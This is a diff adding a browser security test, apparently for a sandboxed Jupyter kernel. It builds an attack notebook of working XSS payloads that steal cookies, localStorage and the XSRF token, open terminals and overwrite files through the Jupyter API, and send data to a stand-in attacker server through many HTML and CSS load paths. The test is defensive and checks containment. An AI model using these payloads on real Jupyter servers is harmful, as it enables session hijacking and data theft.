@@ -1,0 +1,301 @@
+"""A Hopx kernel's output cannot act in the user's browser (real JupyterLab, headless Chromium).
+
+An attack notebook tries everything an output can do to the page that renders it: script in
+HTML, JavaScript, SVG, Markdown and `isolated` outputs reads the session's cookie and
+`localStorage`, calls the server's REST and websocket APIs with the user's session (a terminal,
+the stock unsandboxed kernel, a file overwrite), touches the page's DOM, navigates, opens
+windows, submits forms, and loads from another origin in every way HTML and CSS allow. A test
+HTTP server on another loopback address counts every request it gets.
+
+On a Hopx kernel nothing gets through, live or reopened from the saved notebook, while the
+scripts demonstrably run inside their frames. The very same outputs on the stock kernel, in the
+same test, do get through: the test can fail.
+"""
+
+from __future__ import annotations
+
+import json
+import threading
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass, field
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+
+import nbformat
+import pytest
+from playwright.sync_api import Browser, Frame, Page, expect
+
+from browser_harness import UI_TIMEOUT, open_notebook, shoot
+from conftest import wait_until
+from server_harness import Server
+
+VICTIM = "victim.txt"
+VICTIM_TEXT = "the user's file\n"
+
+
+@dataclass
+class Exfiltration:
+    """An HTTP server on 127.0.0.2 (another origin than the Jupyter server's 127.0.0.1) that
+    records the path of every request it gets."""
+
+    url: str
+    paths: list[str] = field(default_factory=list)
+
+    def vectors(self) -> set[str]:
+        """The attack vectors that reached it (the first path segment after /v/)."""
+        return {p.split("/")[2].split("?")[0] for p in self.paths if p.startswith("/v/")}
+
+
+@pytest.fixture
+def exfiltration() -> Iterator[Exfiltration]:
+    received: list[str] = []
+
+    class Handler(BaseHTTPRequestHandler):
+        def _answer(self) -> None:
+            received.append(self.path)
+            self.send_response(200)
+            self.send_header("Content-Type", "text/plain")
+            self.send_header("Content-Length", "0")
+            self.end_headers()
+
+        do_GET = do_POST = do_HEAD = do_OPTIONS = _answer
+
+        def log_message(self, *args: object) -> None:
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.2", 0), Handler)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield Exfiltration(f"http://127.0.0.2:{server.server_address[1]}", received)
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+def attack_script(server: Server, attacker: str, tag: str) -> str:
+    """JavaScript that tries to use the user's session and reports what it got to `attacker`;
+    it marks its own document `data-hopx-attack-<tag>` once it has tried, so a test can tell
+    that it ran."""
+    return f"""(function () {{
+  var S = {json.dumps(server.url)}, A = {json.dumps(attacker)};
+  function leak(what, data) {{
+    try {{ new Image().src = A + '/v/' + what + '-{tag}?d=' + encodeURIComponent(String(data)); }} catch (e) {{}}
+  }}
+  var cookie = '';
+  try {{ cookie = document.cookie; }} catch (e) {{}}
+  if (cookie) {{ leak('cookie', cookie); }}
+  try {{ leak('storage', JSON.stringify(localStorage)); }} catch (e) {{}}
+  var xsrf = (cookie.match(/_xsrf=([^;]+)/) || [])[1] || '';
+  var headers = {{ 'X-XSRFToken': decodeURIComponent(xsrf), 'Content-Type': 'application/json' }};
+  function api(method, path, body) {{
+    try {{
+      fetch(S + path, {{ method: method, credentials: 'include', headers: headers,
+                        body: body ? JSON.stringify(body) : undefined }})
+        .then(function (r) {{ leak('api', method + path + '=' + r.status); }}, function () {{}});
+    }} catch (e) {{}}
+  }}
+  api('POST', '/api/terminals');
+  api('POST', '/api/kernels', {{ name: 'python3' }});
+  api('PUT', '/api/contents/notebooks/{VICTIM}', {{ type: 'file', format: 'text', content: 'pwned' }});
+  try {{ new WebSocket(S.replace('http', 'ws') + '/terminals/websocket/1'); }} catch (e) {{}}
+  try {{ window.top.document.body.setAttribute('data-pwned-top', '{tag}'); }} catch (e) {{}}
+  try {{ window.parent.document.body.setAttribute('data-pwned-parent', '{tag}'); }} catch (e) {{}}
+  try {{ navigator.sendBeacon(A + '/v/beacon-{tag}', 'x'); }} catch (e) {{}}
+  try {{ new EventSource(A + '/v/eventsource-{tag}'); }} catch (e) {{}}
+  try {{ new WebSocket(A.replace('http', 'ws') + '/v/websocket-{tag}'); }} catch (e) {{}}
+  try {{ fetch(A + '/v/fetch-{tag}', {{ mode: 'no-cors' }}); }} catch (e) {{}}
+  try {{ var x = new XMLHttpRequest(); x.open('GET', A + '/v/xhr-{tag}'); x.send(); }} catch (e) {{}}
+  try {{ window.open(A + '/v/open-{tag}'); }} catch (e) {{}}
+  document.documentElement.setAttribute('data-hopx-attack-{tag}', 'tried');
+}})();"""
+
+
+def loading_html(attacker: str) -> str:
+    """HTML that makes a browser load from `attacker` without any script, and a form it
+    submits there (late: on the stock kernel it takes the page away, ending other attacks)."""
+    a = attacker
+    return f"""
+<img src="{a}/v/img" width="4" height="4">
+<div style="background:url({a}/v/css-url);width:4px;height:4px"></div>
+<style>@import url({a}/v/css-import); @font-face {{font-family: leak; src: url({a}/v/font);}}
+.leak-font {{font-family: leak}}</style><span class="leak-font">font</span>
+<link rel="stylesheet" href="{a}/v/link-stylesheet">
+<link rel="prefetch" href="{a}/v/link-prefetch">
+<link rel="preload" as="image" href="{a}/v/link-preload">
+<svg width="4" height="4"><image href="{a}/v/svg-image" width="4" height="4"/></svg>
+<video poster="{a}/v/video-poster" width="4" height="4"></video>
+<audio src="{a}/v/audio" preload="auto"></audio>
+<object data="{a}/v/object" width="4" height="4"></object>
+<embed src="{a}/v/embed" width="4" height="4">
+<iframe src="{a}/v/iframe" width="4" height="4"></iframe>
+<iframe srcdoc="&lt;img src='{a}/v/iframe-srcdoc'&gt;" width="4" height="4"></iframe>
+<script src="{a}/v/script-src"></script>
+<form id="hopx-leak-form" action="{a}/v/form" method="post"><input name="d" value="1"></form>
+<script>setTimeout(function () {{ document.getElementById('hopx-leak-form').submit(); }}, 2000);
+</script>
+"""
+
+
+def navigation_html(attacker: str) -> str:
+    """HTML whose only aim is to navigate its frame (or the page) to `attacker`."""
+    return (
+        f'<meta http-equiv="refresh" content="0;url={attacker}/v/meta-refresh">'
+        f"<script>setTimeout(function () {{ location.href = '{attacker}/v/navigate'; }}, 200);"
+        f"try {{ top.location = '{attacker}/v/top-navigate'; }} catch (e) {{}}</script>"
+        f'<a id="hopx-leak-link" href="{attacker}/v/link-click" ping="{attacker}/v/ping">x</a>'
+        "<script>document.getElementById('hopx-leak-link').click();</script>"
+    )
+
+
+def attack_cells(server: Server, attacker: str) -> list[str]:
+    """The attack notebook's code: one cell of script and loads in every output kind, and one
+    cell that navigates (last, since on the stock kernel it takes the page away)."""
+    scripts = {tag: attack_script(server, attacker, tag) for tag in ("html", "js", "svg", "iso")}
+    svg = (
+        '<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20">'
+        f"<script>{scripts['svg']}</script>"
+        f'<image href="{attacker}/v/svg-output-image" width="4" height="4"/></svg>'
+    )
+    first = f"""from IPython.display import HTML, SVG, Javascript, Markdown, display
+display(HTML({json.dumps("<script>" + scripts["html"] + "</script>")}))
+display(Javascript({json.dumps(scripts["js"])}))
+display({{"image/svg+xml": {json.dumps(svg)}, "text/plain": "svg"}}, raw=True)
+display(HTML({json.dumps("<script>" + scripts["iso"] + "</script>")}), metadata={{"isolated": True}})
+display(HTML({json.dumps(loading_html(attacker))}))
+display(Markdown("![leak]({attacker}/v/markdown-image) <img src='{attacker}/v/markdown-html'>"))
+print("attack cell done")"""
+    second = f"""from IPython.display import HTML, display
+display(HTML({json.dumps(navigation_html(attacker))}))
+print("navigation cell done")"""
+    return [first, second]
+
+
+def write_attack_notebook(server: Server, name: str, kernel: str, attacker: str) -> str:
+    nb = nbformat.v4.new_notebook()
+    nb.metadata["kernelspec"] = {"name": kernel, "display_name": kernel, "language": "python"}
+    nb.cells = [nbformat.v4.new_code_cell(code) for code in attack_cells(server, attacker)]
+    nbformat.write(nb, server.root / "notebooks" / name)
+    return f"notebooks/{name}"
+
+
+def run_cell(page: Page, index: int, done_text: str) -> None:
+    page.locator(".jp-Notebook .jp-Cell").nth(index).locator(".jp-InputArea-editor").click()
+    page.keyboard.press("Shift+Enter")
+    expect(page.locator(".jp-Notebook .jp-Cell").nth(index)).to_contain_text(
+        done_text, timeout=UI_TIMEOUT
+    )
+
+
+def frames_marked(page: Page, attribute: str) -> list[Frame]:
+    """The frames of `page` whose document carries `attribute`."""
+    marked = []
+    for frame in page.frames:
+        try:
+            if frame.evaluate(f"document.documentElement.hasAttribute({json.dumps(attribute)})"):
+                marked.append(frame)
+        except Exception:  # noqa: S112 - a frame navigating away or gone: not marked
+            continue
+    return marked
+
+
+def assert_contained(page: Page) -> None:
+    """No attack script ran in the page itself, and each that ran is in a frame that cannot
+    reach the page's document."""
+    ran_here = page.evaluate(
+        "Array.from(document.documentElement.attributes).some("
+        "a => a.name.startsWith('data-hopx-attack'))"
+    )
+    assert not ran_here, "an attack script ran in the page itself"
+    for tag in ("html", "js", "svg", "iso"):
+        for frame in frames_marked(page, f"data-hopx-attack-{tag}"):
+            reaches_page = frame.evaluate(
+                "(() => { try { return !!window.top.document.body; } catch (e) { return false; } })()"
+            )
+            assert not reaches_page, f"the {tag} output ran in a frame that reaches the page"
+
+
+def saved_outputs(path: Path) -> int:
+    """How many outputs the saved notebook at `path` holds."""
+    try:
+        nb = nbformat.read(path, as_version=4)
+    except Exception:
+        return 0
+    return sum(len(cell.get("outputs", [])) for cell in nb.cells)
+
+
+def kernel_names(server: Server) -> list[str]:
+    return sorted(k["name"] for k in server.api("GET", "/api/kernels").json())
+
+
+def page_state(server: Server, page: Page) -> dict[str, object]:
+    """What an attack would change outside its frame."""
+    body = page.locator("body")
+    return {
+        "terminals": server.api("GET", "/api/terminals").json(),
+        "kernels": kernel_names(server),
+        "victim": (server.root / "notebooks" / VICTIM).read_text(),
+        "pwned_top": body.get_attribute("data-pwned-top"),
+        "pwned_parent": body.get_attribute("data-pwned-parent"),
+        "url": page.url.split("?")[0],
+    }
+
+
+def test_hopx_outputs_cannot_act_in_the_browser_but_stock_ones_can(
+    lab: Server,
+    browser: Browser,
+    make_kernelspec: Callable[..., str],
+    exfiltration: Exfiltration,
+) -> None:
+    make_kernelspec("hopx-lab")
+    (lab.root / "notebooks" / VICTIM).write_text(VICTIM_TEXT)
+    attacker = exfiltration.url
+
+    # Live, on the Hopx kernel: every output kind's script runs, inside its frame only.
+    path = write_attack_notebook(lab, "attack.ipynb", "hopx-lab", attacker)
+    page = open_notebook(browser, lab, path, "attack-hopx")
+    before = page_state(lab, page)
+    assert before["kernels"] == ["hopx-lab"]
+    run_cell(page, 0, "attack cell done")
+    run_cell(page, 1, "navigation cell done")
+    for tag in ("html", "js", "svg"):
+        assert wait_until(lambda tag=tag: frames_marked(page, f"data-hopx-attack-{tag}"), 30), (
+            f"the {tag} output's script did not run in its frame"
+        )
+    page.wait_for_timeout(3000)  # time for loads, navigations and API calls to land
+    shoot(page, "isolation-01-attack-hopx")
+    assert exfiltration.paths == [], f"a Hopx output reached another origin: {exfiltration.paths}"
+    assert page_state(lab, page) == before
+    assert_contained(page)
+
+    # Saved and reopened: the restored outputs are just as contained.
+    page.locator('.jp-NotebookPanel-toolbar [data-jp-item-name="save"] button').click()
+    assert wait_until(lambda: saved_outputs(lab.root / path) >= 8, 30)
+    page.close()
+    reopened = open_notebook(browser, lab, path, "attack-hopx-reopened")
+    for tag in ("html", "js", "svg"):
+        assert wait_until(lambda tag=tag: frames_marked(reopened, f"data-hopx-attack-{tag}"), 30)
+    reopened.wait_for_timeout(3000)
+    shoot(reopened, "isolation-02-attack-hopx-reopened")
+    assert exfiltration.paths == [], "a restored Hopx output reached another origin"
+    assert_contained(reopened)
+    state = page_state(lab, reopened)
+    assert {k: v for k, v in state.items() if k != "url"} == {
+        k: v for k, v in before.items() if k != "url"
+    }
+    reopened.close()
+    for kernel in lab.api("GET", "/api/kernels").json():
+        lab.api("DELETE", f"/api/kernels/{kernel['id']}")
+
+    # The same outputs from the stock kernel act with the user's session: the test can fail.
+    stock_path = write_attack_notebook(lab, "attack-stock.ipynb", "python3", attacker)
+    stock = open_notebook(browser, lab, stock_path, "attack-stock")
+    run_cell(stock, 0, "attack cell done")
+    assert wait_until(lambda: (lab.root / "notebooks" / VICTIM).read_text() == "pwned", 30)
+    assert wait_until(lambda: lab.api("GET", "/api/terminals").json() != [], 30)
+    # The notebook's own python3 kernel, and those its outputs' scripts started.
+    assert wait_until(lambda: kernel_names(lab).count("python3") >= 2, 30)
+    assert wait_until(lambda: any("_xsrf" in p for p in exfiltration.paths), 30)
+    # Loads without script, and a form submitted to the other origin (it navigates the page).
+    assert wait_until(lambda: {"img", "css-url", "form"} <= exfiltration.vectors(), 30)
+    stock.close()
